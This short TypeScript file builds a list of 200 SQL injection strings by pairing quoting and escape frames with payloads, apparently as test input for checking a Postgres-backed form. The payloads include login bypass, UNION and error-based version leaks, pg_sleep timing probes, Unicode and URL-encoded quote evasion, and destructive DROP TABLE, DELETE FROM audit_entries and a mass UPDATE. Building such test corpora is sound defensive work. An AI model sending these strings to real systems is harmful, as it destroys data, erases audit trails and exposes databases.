/** SQL that somebody may write where words are asked for, one way a line; `§` is a place for what is to be done. */
const frames = [
  "'§--",
  "' §--",
  "';§;--",
  "'); §;--",
  "')); §;--",
  '"§--',
  '"; §;--',
  '§',
  '1 §',
  "1' §",
  ') §--',
  "x' || (§) || '",
  "x'::text || (§)::text || '",
  '$$§$$',
  "\\'; §;--",
  '%27; §;--',
  'ʼ; §;--',
  '＇; §;--',
  "x'/**/;/**/§/**/--",
  "E'\\'' || §",
]

/** What is to be done; `~` is a delay. */
const deeds = [
  'OR 1=1',
  'OR true',
  'UNION SELECT NULL',
  'UNION ALL SELECT version()',
  'SELECT pg_sleep(2)',
  'AND 1=(SELECT 1 FROM pg_sleep(2))',
  'DROP TABLE responses',
  "UPDATE people SET status='disabled'",
  'DELETE FROM audit_entries',
  'AND 1=CAST(version() AS int)',
]

/** Two hundred of them, the first ones as different from each other as can be. */
export const injections: string[] = frames.flatMap((_, index) =>
  deeds.map((deed, at) => (frames[(index + at) % frames.length] as string).replace('§', deed)),
)
